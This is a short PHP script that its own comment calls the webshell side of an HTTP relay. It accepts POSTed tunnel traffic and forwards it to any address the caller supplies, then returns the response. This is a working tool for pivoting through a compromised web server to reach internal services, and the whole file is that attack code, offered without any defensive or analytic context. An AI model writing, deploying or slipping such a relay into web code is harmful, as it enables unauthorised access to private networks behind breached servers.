<?php
// Webshell side of an HTTP relay: the local tunnel client posts its traffic here together with
// the address of the service to reach; the raw body is posted on and the reply printed back.
if ($_SERVER['REQUEST_METHOD'] !== 'POST') {
    die('ready');
}
$frame = file_get_contents('php://input');
$peer = $_POST['peer'] . $_POST['route'];

function relay_ctx($to, $payload)
{
    $ctx = stream_context_create(array('http' => array(
        'method' => 'POST',
        'header' => 'Content-Type: application/octet-stream',
        'content' => $payload,
    )));
    return file_get_contents($to, false, $ctx);
}

if (function_exists('curl_init')) {
    $h = curl_init();
    curl_setopt($h, CURLOPT_URL, $peer);
    curl_setopt($h, CURLOPT_POST, 1);
    curl_setopt($h, CURLOPT_POSTFIELDS, $frame);
    curl_exec($h);
    curl_close($h);
} else {
    print_r(relay_ctx($peer, $frame));
}
